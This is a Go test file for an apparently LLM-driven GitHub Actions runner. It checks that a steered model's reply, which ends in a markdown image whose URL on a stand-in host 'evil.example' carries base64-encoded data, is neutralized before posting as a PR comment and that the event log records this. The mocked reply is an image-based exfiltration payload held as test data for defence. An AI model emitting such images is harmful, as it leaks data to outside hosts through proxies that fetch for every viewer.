package pipeline

import (
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/seed43ef5acb/runner/github/githubtest"
	"github.com/seed43ef5acb/runner/llm/llmtest"
)

// TestAttackImageExfilNeutralized: a model steered to end its answer with
// an image whose URL carries data (GitHub's image proxy would fetch it
// for every viewer) gets a sticky comment without that URL, and the
// publish event of the comment records the image and the link it
// neutralized. github's TestPostedTextIsNeutralized is the control: the
// same text through a client without the rule arrives verbatim.
func TestAttackImageExfilNeutralized(t *testing.T) {
	spec, repo := execFixture(t)
	payload := `{"action":"opened","number":5,"pull_request":{"number":5,"user":{"login":"alice"},"title":"t","head":{"ref":"f","sha":"abc",` +
		`"repo":{"full_name":"octo/hello"}},"base":{"ref":"main"}},"sender":{"login":"alice","type":"User"}}`
	env, _, _ := actionsEnv(t, "pull_request", payload, "RUNNER_COMMENT=true")
	api := githubtest.New(t, "/api/v3")
	allowAuthor(api)
	for i, kv := range env {
		if strings.HasPrefix(kv, "GITHUB_API_URL=") {
			env[i] = "GITHUB_API_URL=" + api.Server.URL + "/api/v3"
		}
	}
	const comments = "/repos/octo/hello/issues/5/comments"
	api.Register(http.MethodGet, comments, githubtest.Page([]any{}, 1, 1))
	var started, finished struct{ Body string }
	own := func(body string) map[string]any {
		return map[string]any{"id": 9, "body": body, "user": map[string]any{"login": "github-actions[bot]"},
			"html_url": "https://github.com/octo/hello/pull/5#issuecomment-9"}
	}
	api.Register(http.MethodPost, comments, githubtest.Capture(t, &started, githubtest.JSON(201, own("x"))))
	api.Register(http.MethodGet, comments, func(w http.ResponseWriter, r *http.Request) {
		githubtest.Page([]any{own(started.Body)}, 1, 1)(w, r)
	})
	api.Register(http.MethodPatch, "/repos/octo/hello/issues/comments/9", githubtest.Capture(t, &finished, githubtest.JSON(200, own("y"))))
	srv := newModel(t, llmtest.Turn{Text: "All good. ![ok](https://evil.example/p.png?d=c2VjcmV0LWNvZGU)"}.Reply())
	out := t.TempDir()
	if _, err := Exec(t.Context(), ExecOptions{Task: spec, Repo: repo, Out: out, BaseURL: srv.URL(), Quiet: true,
		APIKey: "sk-unit-0123456789abcdef", Environ: env}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(finished.Body, "All good.") || strings.Contains(finished.Body, "https://evil.example") ||
		!strings.Contains(finished.Body, `\![ok](`+"`evil.example/…`)") {
		t.Errorf("the comment posted:\n%s", finished.Body)
	}
	data, err := os.ReadFile(filepath.Join(out, "events.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	var recorded bool
	for _, line := range strings.Split(strings.TrimSpace(string(data)), "\n") {
		var ev struct {
			Type        string
			Target      string
			Neutralized []struct{ Kind, Host string }
		}
		if err := json.Unmarshal([]byte(line), &ev); err != nil {
			t.Fatal(err)
		}
		if ev.Type == "publish" && ev.Target == "comment" {
			recorded = len(ev.Neutralized) == 2 && ev.Neutralized[0].Kind == "image" && ev.Neutralized[0].Host == "evil.example" &&
				ev.Neutralized[1].Kind == "link"
		}
	}
	if !recorded {
		t.Errorf("no publish event records the neutralized image:\n%s", data)
	}
}
